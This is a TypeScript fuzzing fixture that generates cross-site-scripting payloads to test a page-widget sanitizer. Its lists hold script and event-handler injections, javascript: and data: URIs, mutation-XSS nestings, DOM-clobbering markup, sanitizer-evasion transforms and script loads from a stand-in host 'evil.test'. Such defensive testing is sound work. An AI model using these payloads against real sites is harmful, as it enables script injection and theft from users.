import fc from 'fast-check';
import { SIGNUP_LINK_SCHEMA, VIRAL_LINK_SCHEMA } from '../../packages/forms-embed/src/links/settings';
import { FULL_SCHEMA } from '../../packages/forms-embed/src/settings/full-settings';
import { FILTER_SCHEMA, LOOP_SCHEMA } from '../../packages/loop-filter/src/settings';
import { POPUP_SCHEMA } from '../../packages/popup-engine/src/settings';
import { OFF_CANVAS_SCHEMA } from '../../packages/popup-engine/src/settings/off-canvas-settings';
import { CART_SCHEMA } from '../../packages/shop-cart/src/settings';
import { STICKY_SCHEMA } from '../../packages/sticky/src/settings';
import { MOTION_SCHEMA } from '../../packages/sticky/src/settings/motion-settings';

/** A host that no page has named: nothing may ever be asked of it. */
export const EVIL = 'evil.test';

/** Every option of every widget, as it is written in script. */
const OPTIONS: Readonly<Record<string, readonly string[]>> = {
  form: Object.keys(FULL_SCHEMA),
  'signup-link': Object.keys(SIGNUP_LINK_SCHEMA),
  'viral-link': Object.keys(VIRAL_LINK_SCHEMA),
  popup: Object.keys(POPUP_SCHEMA),
  'off-canvas': Object.keys(OFF_CANVAS_SCHEMA),
  sticky: Object.keys(STICKY_SCHEMA),
  motion: Object.keys(MOTION_SCHEMA),
  'scroll-top': ['beyond'],
  lazy: ['background'],
  loop: Object.keys(LOOP_SCHEMA),
  'loop-filter': Object.keys(FILTER_SCHEMA),
  cart: Object.keys(CART_SCHEMA),
};

/** Elements that a dialect takes for its own, or that do something when they are followed. */
const DIALECTS = [
  '<div class="hs-form-frame" data-form-id="6f3a2b58-1c7e-4d4e-9a43-5d1c9b7e2a10" data-portal-id="8100231" data-region="na1"></div>',
  '<div data-elementor-type="popup" data-elementor-id="88" data-elementor-settings=\'{"triggers":{"page_load":"yes"}}\'>P</div>',
  '<div class="e-off-canvas" id="off-canvas-abc">P</div>',
  '<div class="elementor-element" data-id="abc1234" data-settings=\'{"sticky":"top","motion_fx_motion_fx_scrolling":"yes"}\'>S</div>',
  '<search class="e-filter" data-base-url="ADDRESS"><button data-filter="a">A</button></search>',
  '<div class="e-load-more-anchor" data-page="1" data-max-page="9" data-next-page="ADDRESS"></div>',
  '<a class="add_to_cart_button ajax_add_to_cart" data-product_id="13" href="ADDRESS">Add</a>',
  '<a class="remove remove_from_cart_button" data-cart_item_key="k" href="ADDRESS">x</a>',
  '<a class="coming-soon-footer-banner-dismiss" data-rest-url="ADDRESS" data-rest-nonce="n" href="#">x</a>',
  '<a href="#mountkit:popup:open?id=77">open</a>',
  '<a href="#mountkit:reload-page">again</a>',
  '<a href="#elementor-action%3Aaction%3Dpopup%3Aopen%26settings%3DeyJpZCI6Ijc3In0%3D">open</a>',
  '<a e-action-hash="#elementor-action:action=popup:open&settings=eyJpZCI6Ijc3In0=" href="#">open</a>',
  '<p class="woocommerce-store-notice" data-notice-id="x">N <a class="woocommerce-store-notice__dismiss-link" href="#">x</a></p>',
  '<script type="application/json" data-mountkit-config>{"addresses":{"botCheckSrc":"ADDRESS"}}</script>',
] as const;

/** Markup that runs CODE, asks for ADDRESS, or hides what the page finds by name. */
const RUNNING = [
  '<script>CODE</script>',
  '<script src="ADDRESS"></script>',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '<img src=x onerror=CODE>',
  '<img src="ADDRESS" srcset="ADDRESS 2x" lowsrc="ADDRESS">',
  '<svg onload=CODE><image href="ADDRESS"/><use href="ADDRESS#x"/></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s><set attributeName="href" to="javascript:CODE"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.CODE</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
  '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=CODE>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=CODE src>">',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<template><img src=x onerror=CODE></template>',
  '<div><template shadowrootmode="open"><img src=x onerror=CODE></template></div>',
  '<select><option><style></option></select><img src=x onerror=CODE></style>',
  '<iframe src="javascript:parent.CODE"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.CODE&lt;/script&gt;"></iframe>',
  '<object data="javascript:CODE"></object><embed src="ADDRESS">',
  '<a href="javascript:CODE">a</a><area href="java\tscript:CODE">',
  '<a href="&#106;avascript&colon;CODE">a</a>',
  '<a href="data:text/html,<script>opener.CODE</script>" target=_blank>a</a>',
  '<a href="ADDRESS" ping="ADDRESS">a</a>',
  '<details open ontoggle=CODE>d</details>',
  '<video poster="ADDRESS" src="ADDRESS" autoplay onloadstart=CODE><source onerror=CODE src=x></video>',
  '<audio src=x onerror=CODE></audio>',
  '<body onload=CODE><marquee onstart=CODE>m</marquee>',
  '<x onfocus=CODE tabindex=1 autofocus onclick=CODE>x</x>',
  '<input autofocus onfocus=CODE><button formaction="javascript:CODE">b</button>',
  '<div popover id=p onbeforetoggle=CODE>p</div><button popovertarget=p>b</button>',
  '<base href="ADDRESS"><meta http-equiv=refresh content="0;url=ADDRESS">',
  '<link rel=stylesheet href="ADDRESS"><link rel=preload as=script href="ADDRESS">',
  '<style>@import "ADDRESS";*{background:url(ADDRESS)}</style>',
  '<p style="background:url(ADDRESS);position:fixed;inset:0">p</p>',
  '<img name=cookie><img name=currentScript><form name=body></form><a id=mountkit><a id=mountkit name=q href="ADDRESS">',
  '<div id=__proto__ name=constructor><p is="x-y" slot=z part=q>p</p></div>',
  ']]><![CDATA[<img src=x onerror=CODE>]]><!--><img src=x onerror=CODE>-->',
] as const;

const address = fc.constantFrom(
  `http://${EVIL}/x.js`,
  `//${EVIL}/x.js`,
  `https://${EVIL}/?`,
  `https://user@${EVIL}/#mountkit:popup:open?id=77`,
  'javascript:ran()',
  'JaVa\tScRiPt:ran()//',
  '\u0001javascript:ran()',
  'data:text/javascript,ran()',
  'data:text/html,<script>parent.ran()</script>',
  'vbscript:ran()',
  'blob:null/x',
);

const code = fc.constantFrom('ran()', 'top.ran()', "self['ran']()", 'parent.ran()', 'ran``', 'setTimeout(ran)');

const kebab = (name: string) => name.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`);

/** What an option of a widget could be made to hold. */
const value = fc.oneof(
  address,
  code,
  fc.constantFrom('<img src=x onerror=ran()>', '*', 'body', 'html,:root', '__proto__'),
);

/** An element marked as a widget, with some of its options in attributes of their own or in `data-settings`. */
const gadget = fc
  .constantFrom(...Object.keys(OPTIONS))
  .chain((name) =>
    fc.record({
      name: fc.constant(name),
      tag: fc.constantFrom('div', 'a', 'span', 'p', 'b'),
      isBundled: fc.boolean(),
      options: fc.dictionary(fc.constantFrom(...(OPTIONS[name] as readonly string[])), value, {
        minKeys: 1,
        maxKeys: 6,
      }),
    }),
  )
  .map(({ name, tag, isBundled, options }) => {
    const quoted = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    const given = { portalId: '8100231', formId: '5eed0000-0000-4000-8000-000000000023', ...options };
    const attributes = isBundled
      ? ` data-settings="${quoted(JSON.stringify(given))}"`
      : Object.entries(given)
          .map(([key, text]) => ` data-${kebab(key)}="${quoted(text)}"`)
          .join('');
    return `<${tag} data-mountkit="${name}"${attributes}>g</${tag}>`;
  });

const filled = (templates: readonly string[]) =>
  fc
    .tuple(fc.constantFrom(...templates), code, address)
    .map(([template, run, ask]) => template.replaceAll('CODE', run).replaceAll('ADDRESS', ask));

/** Changes that leave markup what it is for a browser, or nearly, and may make it something else for a cleaner. */
const DISGUISES: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (markup) => markup.replaceAll(' ', '\n'),
  (markup) => markup.replaceAll(' ', '/'),
  (markup) => markup.replaceAll('"', ''),
  (markup) => markup.replace(/>$/, ''),
  (markup) => `<p>${markup}`,
  (markup) => `<table><tr><td>${markup}</table>`,
  (markup) => `<svg><desc>${markup}</desc></svg>`,
  (markup) => `<math><annotation-xml encoding="text/html">${markup}</annotation-xml></math>`,
  (markup) => `"'>${markup}<!--`,
  (markup) => `</span></div></form>${markup}`,
  (markup) => `<span data-mountkit-foreign=no>${markup}</span>`,
  (markup) => markup.replace('<', '<\u0000'),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => `${markup}${markup}`,
];

const markup = fc
  .tuple(fc.oneof(filled(RUNNING), filled(DIALECTS), gadget), fc.array(fc.constantFrom(...DISGUISES), { maxLength: 2 }))
  .map(([made, disguises]) => disguises.reduce((text, disguise) => disguise(text), made));

/** So many elements that a widget, a dialect or a link action would find, as they are. */
export const makeGadgets = (count: number, seed: number): string[] =>
  fc.sample(fc.oneof(filled(DIALECTS), gadget), { numRuns: count, seed });

/** So many payloads: mostly markup, now and then a bare address or code. The same seed makes the same ones. */
export const makePayloads = (count: number, seed: number): string[] =>
  fc.sample(
    fc.oneof({ weight: 8, arbitrary: markup }, { weight: 1, arbitrary: address }, { weight: 1, arbitrary: code }),
    {
      numRuns: count,
      seed,
    },
  );
